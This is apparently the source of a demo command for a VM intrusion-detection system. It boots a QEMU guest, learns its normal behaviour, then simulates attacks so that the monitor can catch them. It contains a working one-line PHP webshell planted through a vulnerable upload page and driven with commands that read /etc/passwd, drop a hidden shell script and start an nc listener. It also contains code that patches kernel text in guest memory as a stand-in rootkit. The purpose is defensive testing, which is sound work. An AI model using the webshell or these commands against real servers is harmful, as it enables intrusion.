"""``vims demo``: the main job, end to end, on the Debian guest (``--image mini``: the busybox guest).

The story, each step with a deadline:

1. build the guest image (cached) and start REM-S with a protected service, its gate on the loopback
   port the guest's client reaches (Debian: a TCP connection to an intranet address that QEMU's
   ``guestfwd`` maps there; busybox: a serial line);
2. boot the guest and learn its normal behaviour: trace it while its workload runs (Debian: the
   small-server workload of :mod:`vims.collector.guest.workload`) and fit a per-program model set
   (cached beside the image for later runs);
3. start the A-VM agent (tracer, scorer workers, static checks) reporting to REM-S; the guest's client
   connects through REM-S and is let through;
4. a webshell: the web server runs a shell (Debian: a PHP file planted in the site, driven over HTTP
   from the host: ``id``, ``/etc/passwd``, a dropped file, a listener; busybox: its ``webshell``
   scenario); the behaviour score falls, REM-S cuts the connection and refuses new ones;
5. kernel text is patched from outside (through the guest's RAM at the address KASLR put it,
   standing in for a rootkit): ``kernel-text`` fails and connections stay refused.

It ends with a summary (``--json`` for scripts) and a report folder: ``timeline.png``, ``index.html``,
``summary.json``, ``reports.jsonl`` and ``decisions.json``.
"""

from __future__ import annotations

import mmap
import os
import shlex
import shutil
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import typer

from vims.console import err, out, print_json
from vims.errors import MissingDependencyError, VimsError
from vims.poll import poll_until

VM_ID = "demo-vm"
AVM_ID = "avm-demo"
#: The reporting interval and the policy REM-S gives the demo's A-VM.
INTERVAL_S = 2.0
POLICY: dict[str, Any] = {
    "checks": [{"check": "kernel-text", "every_s": 2.0}, {"check": "syscall-table", "every_s": 2.0},
               {"check": "hidden-processes", "every_s": 2.0}],
    "tracing": {"mode": "full"},
    "threshold": 0.5,
    "interval_s": INTERVAL_S,
    "deadline_s": 3 * INTERVAL_S,
    "attest_timeout_s": 2 * INTERVAL_S,
}
#: How long the story dwells on a state (normal life before the attack, refusals after it).
DWELL_S = 3 * INTERVAL_S
#: The kernel function the demo's "rootkit" patches: a system call nobody makes in the guest.
PATCH_SYMBOL = "__x64_sys_vhangup"
#: Deadlines of the steps, in seconds.
DEADLINES = {"build": 600.0, "boot": 240.0, "allowed": 120.0, "cut": 60.0, "refused": 60.0}


class DemoStepError(VimsError):
    """A step of the demo did not happen in time; says which and what was seen."""


@dataclass
class Timeline:
    """What happened, with times relative to the start of the story (seconds)."""

    start: float = field(default_factory=time.time)
    reports: list[dict[str, Any]] = field(default_factory=list)
    marks: list[tuple[float, str]] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def mark(self, what: str) -> float:
        now = time.time()
        with self.lock:
            self.marks.append((now - self.start, what))
        return now

    def add_report(self, report: dict[str, Any]) -> None:
        with self.lock:
            self.reports.append(report)


def _wait(pred: Callable[[], Any], timeout: float, step: str, seen: Callable[[], str] = lambda: "") -> Any:
    """Wait for one step of the story; a :class:`DemoStepError` saying what was seen when it does not come."""

    def late() -> DemoStepError:
        detail = seen()
        return DemoStepError(f"step '{step}' did not happen within {timeout:g} s" + (f": {detail}" if detail else ""))

    return poll_until(pred, timeout, late, every=0.2)


def _decisions(db: Path) -> list[dict[str, Any]]:
    from vims.remote.store import Store

    store = Store(db)
    try:
        return list(reversed(store.history(VM_ID, limit=10_000)["decisions"]))
    finally:
        store.close()


#: The Debian demo's webshell: what the attacker's requests run through the planted PHP file.
WEBSHELL_PHP = "<?php header('Content-Type: text/plain'); system($_GET['c'] ?? 'id'); ?>\n"
WEBSHELL_PATH = "/var/www/html/uploads/thumb.php"
WEBSHELL_COMMANDS = ("id", "uname -a", "cat /etc/passwd", "ls -la /var/www /home",
                     "echo 'sh -i' > /tmp/.x && chmod +x /tmp/.x", "nc -l -p 4444 </dev/null >/dev/null 2>&1 &",
                     "ps aux")


def _normal_workload(guest: Any, stop: threading.Event, failures: list[str]) -> None:
    """The guest's normal life while it is learned: its own jobs, plus requests from the host."""
    if guest.kind == "debian":
        from vims.collector.guest.workload import Workload

        seed = 0
        while not stop.is_set():  # the workload in rounds, so it ends soon after ``stop``
            done = Workload(guest, seed=seed, rate=1.0).run(10.0)
            # The gate refuses the client until the A-VM reports: not a failure of normal life.
            failures.extend(f"{r.action.kind}: {r.error}" for r in done.results
                            if not r.ok and r.action.kind != "gate-client")
            seed += 1
        return
    while not stop.wait(3.0):
        try:
            guest.scenario("normal", timeout=30)
        except VimsError as exc:
            failures.append(str(exc))


def _webshell(guest: Any, starts: Callable[[], float]) -> tuple[float, str]:
    """The attack: a shell run by the web server (see :data:`WEBSHELL_COMMANDS`).

    ``starts()`` is called (and its time returned) when the first malicious command is sent, after
    the upload that plants the shell; returns that time and one line on what the shell did.
    """
    if guest.kind != "debian":
        return starts(), str(guest.scenario("webshell", timeout=120))
    import urllib.parse
    import urllib.request

    from vims.collector.guest.attacks import upload_file

    # Uploaded through the site's vulnerable upload page, which stores any file where PHP runs.
    host, port = guest.http_address
    path = upload_file(guest, os.path.basename(WEBSHELL_PATH), WEBSHELL_PHP.encode())
    url = f"http://{host}:{port}/{path}"
    answers = []
    started = starts()
    for command in WEBSHELL_COMMANDS:
        with urllib.request.urlopen(f"{url}?c={urllib.parse.quote(command)}", timeout=120) as resp:
            answers.append(resp.read().decode(errors="replace"))
    return started, f"webshell ran {len(WEBSHELL_COMMANDS)} commands as {answers[0].split()[0] if answers[0] else '?'}"


def _start_client(guest: Any) -> None:
    """The Debian guest's client software: a connection to the protected service through the gate,
    sending a line a second, reconnecting when it is cut or refused (as the busybox guest's does)."""
    if guest.kind != "debian":
        return  # the busybox guest's client runs from its init
    from vims.collector.guest.qemu import GATE_GUEST_ADDRESS

    host, port = GATE_GUEST_ADDRESS
    loop = (f"while :; do (while :; do echo ping; sleep 1; done) | nc {host} {port} >> /var/log/vims-client.log "
            f"2>&1; sleep 2; done")
    guest.run(f"setsid nohup sh -c {shlex.quote(loop)} </dev/null >/dev/null 2>&1 &", check=True)


def _learn_normal(guest: Any, image: Any, capture_s: float, refit: bool) -> Path:
    """A per-program model set of the guest's normal behaviour, cached beside the image."""
    from vims.collector.backends import QemuBackend
    from vims.collector.tracer import SyscallTracer
    from vims.models.persist import read_card
    from vims.schemas import EVENT_SCHEMA
    from vims.tables import read_table, write_table

    folder = Path(image.directory) / "demo-model"
    model = folder / "model-set.skops"
    events = folder / "normal-events.parquet"
    if model.exists() and not refit:
        if read_card(model).get("lineage") is not None:
            err.print(f"using the model set learned earlier: {model}", highlight=False)
            return model
        if events.is_file():  # learned before model sets kept their lineage: fit again from the same calls
            return _fit_demo_model(read_table(events, EVENT_SCHEMA), model)
    err.print(f"learning the guest's normal behaviour for {capture_s:g} s ...", highlight=False)
    stop = threading.Event()
    failures: list[str] = []

    driver = threading.Thread(target=_normal_workload, args=(guest, stop, failures), name="demo-normal",
                              daemon=True)
    try:
        with QemuBackend.from_guest(guest) as backend:
            tracer = SyscallTracer(backend, VM_ID)
            driver.start()
            result = tracer.run(duration=capture_s)
    finally:
        stop.set()
    driver.join(timeout=120)
    if failures:
        err.print(f"[yellow]warning:[/] {len(failures)} action(s) of the normal workload failed while "
                  f"learning; the first: {failures[0]}", highlight=False)
    if result.events.num_rows == 0:
        raise DemoStepError(f"tracing the guest for {capture_s:g} s caught no system call ({result.reason})")
    folder.mkdir(parents=True, exist_ok=True)
    write_table(result.events, events)
    return _fit_demo_model(result.events, model)


def _fit_demo_model(events: Any, model: Path) -> Path:
    """Fit the demo's model set on captured normal ``events`` and save it to ``model``."""
    from vims.datasets.capture import traces_from_events
    from vims.models.persist import save_model
    from vims.training.per_program import fit_model_set

    traces = traces_from_events(events)
    model_set, card = fit_model_set(traces, min_traces=10)  # a threshold from fewer traces is noise
    save_model(model_set, model, card)
    err.print(f"learned {len(model_set.programs())} program models from {traces.num_rows} traces "
              f"({events.num_rows:,} events): {model}", highlight=False)
    return model


def _patch_kernel_text(guest: Any, symbol: str) -> tuple[int, bytes]:
    """Flip one byte of ``symbol``'s code through the guest's RAM file; returns (offset, original byte)."""
    from vims.collector.kernel import KernelView
    from vims.collector.memory import PhysicalMemory

    address = guest.profile.symbol(symbol) + 1  # where this boot put it (KASLR)
    with PhysicalMemory.open(guest.memory_path) as memory:
        physical = KernelView(memory, guest.profile).pa(address)
    with open(guest.memory_path, "r+b") as f, mmap.mmap(f.fileno(), 0) as ram:
        original = ram[physical:physical + 1]
        ram[physical:physical + 1] = bytes([original[0] ^ 0xFF])
    return physical, original


def _restore_byte(guest: Any, physical: int, original: bytes) -> None:
    with open(guest.memory_path, "r+b") as f, mmap.mmap(f.fileno(), 0) as ram:
        ram[physical:physical + 1] = original


def _live_table(timeline: Timeline, db: Path, phase: str) -> Any:
    from rich.table import Table

    table = Table(title=f"VIMS demo: {phase}", title_justify="left", expand=False)
    for column in ("t (s)", "behaviour", "checks", "top process", "REM-S decision"):
        table.add_column(column)
    decisions = _decisions(db)
    with timeline.lock:
        reports = timeline.reports[-8:]
    for report in reports:
        t = report["time"] - timeline.start
        behaviour = report.get("behaviour", {})
        failing = [c["check"] for c in report.get("checks", []) if c.get("status") != "pass"]
        top = behaviour.get("top_processes") or [{}]
        last = [d for d in decisions if d["time"] <= report["time"]][-1:] or [{}]
        score = behaviour.get("score")
        table.add_row(f"{t:6.1f}", "-" if score is None else f"{score:.2f}",
                      ", ".join(failing) + " failing" if failing else "all pass",
                      str(top[0].get("comm", "")), f"{last[0].get('kind', '')} {last[0].get('reason', '')}"[:60])
    return table


#: Seconds of normal life learned from, by image: the Debian guest's cron jobs run every minute (and
#: its backup and log rotation every five), so its normal must hold more than one round of them.
CAPTURE_S = {"mini": 60.0, "debian": 150.0}


def run_demo(output: Path, capture_s: float | None = None, refit: bool = False, live: bool = True,
             image_kind: str = "debian") -> dict[str, Any]:
    """Play the whole story on ``image_kind`` (``debian`` or ``mini``); returns the summary (also written
    to ``output/summary.json``)."""
    from vims.collector.guest import Guest, build_guest
    from vims.collector.guest.debian import build_debian
    from vims.remote.keys import AvmIdentity, ServerKeys
    from vims.remote.server import ServerThread

    if shutil.which("qemu-system-x86_64") is None:
        raise MissingDependencyError("qemu-system-x86_64 not found: `apt-get install qemu-system-x86` "
                                     "(or `make demo`, which installs it)")
    output.mkdir(parents=True, exist_ok=True)
    db = output / "rems.sqlite"
    if image_kind not in ("debian", "mini"):
        raise VimsError(f"--image {image_kind!r}: debian or mini")
    err.print(f"building the {image_kind} guest image (cached after the first run) ...")
    image = build_debian() if image_kind == "debian" else build_guest()
    keys = ServerKeys.generate()
    identity = AvmIdentity.generate(AVM_ID)
    gate_port = _enroll(db, identity)
    summary: dict[str, Any] = {"output": str(output), "image": image_kind, "interval_s": INTERVAL_S,
                               "policy": POLICY}
    timeline: Timeline | None = None
    with ServerThread(db, keys, demo_service=True) as rems:
        err.print(f"REM-S listening; the guest's client line goes through its gate on 127.0.0.1:{gate_port}")
        with Guest.start(image, name=f"vims-demo-{os.getpid()}", gate_port=gate_port) as guest:
            _start_client(guest)  # the client software is part of the guest's normal life: learned too
            model = _learn_normal(guest, image, capture_s or CAPTURE_S[image_kind], refit)
            timeline = Timeline()
            avm = _attach_avm(model, identity, rems.server.endpoint, keys.public, guest, timeline)
            patched: list[tuple[int, bytes]] = []
            try:
                with _maybe_live(live, timeline, db) as show:
                    _play(guest, timeline, db, show, summary, patched)
            finally:
                avm.close()
                for physical, original in patched:
                    _restore_byte(guest, physical, original)
        summary["decisions"] = _count_kinds(_decisions(db))
    for flag in ("allowed_before_attack", "cut_within_deadline", "cut_within_two_intervals",
                 "refused_after_kernel_patch"):
        summary.setdefault(flag, False)
    summary.setdefault("allowed_after_cut", [])
    # The story holds: let in, cut for the attack, refused for the patched kernel, never let in again.
    # How fast the cut came (cut_after_s, within the deadline or not) is shown, and measured by
    # benchmarks; on a loaded TCG host it varies.
    summary["ok"] = bool(summary["allowed_before_attack"] and summary.get("cut_kind") in ("cut", "deny")
                         and summary["refused_after_kernel_patch"] and not summary["allowed_after_cut"])
    from vims.demo.report import write_report

    write_report(output, summary, timeline.reports, _decisions(db), timeline.marks, timeline.start,
                 float(POLICY["threshold"]))
    return summary


def _enroll(db: Path, identity: Any) -> int:
    """A fresh REM-S database with the demo's A-VM enrolled; returns the gate port of its VM."""
    from vims.net import free_port
    from vims.remote.store import Store

    db.unlink(missing_ok=True)
    gate_port = free_port()
    store = Store(db)
    store.enroll(identity.public, VM_ID, gate_port, POLICY)
    store.close()
    return gate_port


def _attach_avm(model: Path, identity: Any, endpoint: str, server_public: str, guest: Any,
                timeline: Timeline) -> Any:
    """The demo's A-VM, as ``vims avm run`` builds it: tracing ``guest``, reporting to REM-S and the timeline."""
    from vims.avm.agent import Agent
    from vims.avm.assembly import AvmRun
    from vims.remote.client import AvmClient

    agent = Agent(model, vm_id=VM_ID, avm_id=AVM_ID, workers=1, interval_s=INTERVAL_S,
                  threshold=float(POLICY["threshold"]))
    avm = AvmRun(agent, AvmClient(identity, endpoint, server_public), sinks=[timeline.add_report])
    try:
        avm.start(wait_policy=30)
    except BaseException:
        avm.close()
        raise
    avm.trace(guest, checks_every=2.0)
    avm.report_in_background()
    timeline.mark("A-VM attached")
    return avm


def _play(guest: Any, timeline: Timeline, db: Path, show: Callable[[str], None], summary: dict[str, Any],
          patched: list[tuple[int, bytes]]) -> None:
    """The story once the A-VM reports: allowed, the webshell cut, the kernel patch refused."""

    def view(phase: str) -> Callable[[], str]:
        return lambda: _describe(timeline, db, phase)

    def decided(kinds: tuple[str, ...], after: float) -> dict[str, Any] | None:
        return next((d for d in _decisions(db) if d["kind"] in kinds and d["time"] >= after), None)

    show("waiting for the client to be let through")
    allowed = _wait(lambda: decided(("allow",), timeline.start), DEADLINES["allowed"], "client allowed",
                    view("allow"))
    timeline.mark("client allowed")
    summary["allowed_before_attack"] = True
    summary["first_allow_s"] = round(allowed["time"] - timeline.start, 2)
    show("normal behaviour, client connected")
    time.sleep(DWELL_S)  # a few reports of normal life: a false alarm would show here
    summary["false_alarms_before_attack"] = [
        f"{d['kind']}: {d['reason']}" for d in _decisions(db)
        if d["kind"] in ("cut", "deny") and d["time"] > allowed["time"]]

    show("webshell: the web server runs a shell")
    attack, answer = _webshell(guest, lambda: timeline.mark("webshell starts"))
    timeline.mark("webshell done")
    cut = _wait(lambda: decided(("cut", "deny"), attack), DEADLINES["cut"], "connection cut", view("cut"))
    timeline.mark(f"connection {cut['kind']}")
    summary.update({"webshell": answer.strip(), "cut_kind": cut["kind"], "cut_reason": cut["reason"],
                    "cut_after_s": round(cut["time"] - attack, 2),
                    # The promise: within the policy's deadline of the first malicious request. Two
                    # intervals is the usual on the busybox guest; under TCG a Debian process takes
                    # seconds to start before its first unusual call.
                    "cut_within_deadline": cut["time"] - attack <= POLICY["deadline_s"],
                    "cut_within_two_intervals": cut["time"] - attack <= 2 * INTERVAL_S,
                    "blamed": _blamed(timeline, after=attack)})

    show("kernel text patched from outside")
    patch_time = timeline.mark(f"kernel text patched ({PATCH_SYMBOL})")
    patched.append(_patch_kernel_text(guest, PATCH_SYMBOL))
    seen = _wait(lambda: _report_with_failing(timeline, "kernel-text", patch_time), DEADLINES["refused"],
                 "kernel-text fails", view("kernel-text"))
    timeline.mark("kernel-text fails")
    refused = _wait(lambda: decided(("deny",), seen["time"]), DEADLINES["refused"],
                    "connection refused after the patch", view("refused"))
    timeline.mark("connection refused")
    time.sleep(DWELL_S / 2)  # refusals go on: the check keeps failing
    summary["allowed_after_cut"] = [f"{d['time'] - timeline.start:.1f} s: {d['reason']}" for d in _decisions(db)
                                    if d["kind"] == "allow" and d["time"] > cut["time"]]
    summary["kernel_text_detail"] = next((c.get("detail") for c in seen["checks"]
                                          if c["check"] == "kernel-text" and c["status"] == "fail"), None)
    summary["refused_after_kernel_patch"] = True
    summary["refusal_reason"] = refused["reason"]


def _count_kinds(decisions: list[dict[str, Any]]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for d in decisions:
        counts[d["kind"]] = counts.get(d["kind"], 0) + 1
    return counts


def _report_with_failing(timeline: Timeline, check: str, after: float) -> dict[str, Any] | None:
    with timeline.lock:
        reports = list(timeline.reports)
    return next((r for r in reports if r["time"] >= after and any(
        c["check"] == check and c["status"] == "fail" for c in r.get("checks", []))), None)


def _blamed(timeline: Timeline, after: float) -> list[str]:
    """The processes the reports since ``after`` named as most anomalous, in order of first mention."""
    names: list[str] = []
    with timeline.lock:
        reports = [r for r in timeline.reports if r["time"] >= after]
    for report in reports:
        for proc in report.get("behaviour", {}).get("top_processes", []):
            comm = str(proc.get("comm"))
            if comm not in names:
                names.append(comm)
    return names


def _describe(timeline: Timeline, db: Path, phase: str) -> str:
    with timeline.lock:
        last = timeline.reports[-1] if timeline.reports else None
    decisions = _decisions(db)
    parts = [f"{len(timeline.reports)} reports", f"decisions {_count_kinds(decisions)}"]
    if last is not None:
        parts.append(f"last behaviour score {last.get('behaviour', {}).get('score')}")
        parts.append(f"last checks {[(c['check'], c['status']) for c in last.get('checks', [])]}")
    if decisions:
        parts.append(f"last decision {decisions[-1]['kind']}: {decisions[-1]['reason']}")
    return "; ".join(parts)


class _maybe_live:  # noqa: N801 (used as a context manager like rich's Live)
    """A live rich view on stderr when it is a terminal; one line per phase otherwise."""

    def __init__(self, live: bool, timeline: Timeline, db: Path) -> None:
        self.enabled = live and err.is_terminal
        self.timeline, self.db = timeline, db
        self.phase = "starting"
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    def __enter__(self) -> Callable[[str], None]:
        if self.enabled:
            from rich.live import Live

            self._live = Live(console=err, refresh_per_second=2, transient=False)
            self._live.__enter__()

            def refresh() -> None:
                while not self._stop.wait(0.5):
                    self._live.update(_live_table(self.timeline, self.db, self.phase))

            self._thread = threading.Thread(target=refresh, daemon=True)
            self._thread.start()
        return self.show

    def show(self, phase: str) -> None:
        self.phase = phase
        if not self.enabled:
            err.print(f"[bold]{time.time() - self.timeline.start:6.1f} s[/] {phase}", highlight=False)

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=5)
            self._live.update(_live_table(self.timeline, self.db, self.phase))
            self._live.__exit__(None, None, None)


def demo(
    output: Path = typer.Option(Path("vims-demo-report"), "-o", "--output",
                                help="Folder for the report: timeline.png, index.html, summary.json, ..."),
    capture_s: float | None = typer.Option(None, "--capture", help="Seconds of normal behaviour to learn from "
                                           "(default 150 on Debian, 60 on mini; only when no model set "
                                           "is cached)."),
    refit: bool = typer.Option(False, "--refit", metavar="",
                               help="Learn the normal behaviour again, ignoring the cache."),
    as_json: bool = typer.Option(False, "--json", metavar="", help="Print the summary as JSON (no live view)."),
    image: str = typer.Option("debian", "--image", help="debian (a Debian 12 server: KASLR, 2 vCPUs, network) "
                              "or mini (the busybox guest: quicker)."),
) -> None:
    """The main job on a guest VM: attest it, let its client through, catch a webshell and a kernel
    patch, and cut it off. Ends with a summary and a report folder."""
    summary = run_demo(output, capture_s=capture_s, refit=refit, live=not as_json, image_kind=image)
    if as_json:
        print_json(summary)
    else:
        _print_summary(summary)
    if not summary["ok"]:
        raise typer.Exit(1)


def _print_summary(summary: dict[str, Any]) -> None:
    def yes(flag: bool) -> str:
        return "[green]yes[/]" if flag else "[red]no[/]"

    out.print("[bold]VIMS demo summary[/]")
    out.print(f"  client allowed before the attack:     {yes(summary['allowed_before_attack'])}")
    false_alarms = summary.get("false_alarms_before_attack", [])
    out.print(f"  false alarms before the attack:       {len(false_alarms)}"
              + (f" (first: {false_alarms[0]})" if false_alarms else ""), highlight=False)
    out.print(f"  connection {summary.get('cut_kind', 'cut')} after the webshell:  "
              f"{summary.get('cut_after_s', '-')} s (within the {POLICY['deadline_s']:g} s deadline: "
              f"{yes(summary['cut_within_deadline'])}; within two intervals: "
              f"{yes(summary['cut_within_two_intervals'])})", highlight=False)
    out.print(f"  processes blamed:                     {', '.join(summary.get('blamed', [])) or '-'}")
    allowed_again = summary.get("allowed_after_cut", [])
    out.print(f"  allowed again after the cut:          {len(allowed_again)}"
              + (f" (first: {allowed_again[0]})" if allowed_again else ""), highlight=False)
    out.print(f"  refused after the kernel patch:       {yes(summary['refused_after_kernel_patch'])}"
              f" ({summary.get('refusal_reason', '')})", highlight=False)
    out.print(f"  report: {Path(summary['output']) / 'index.html'}", highlight=False)


def register(app: typer.Typer) -> None:
    app.command("demo")(demo)

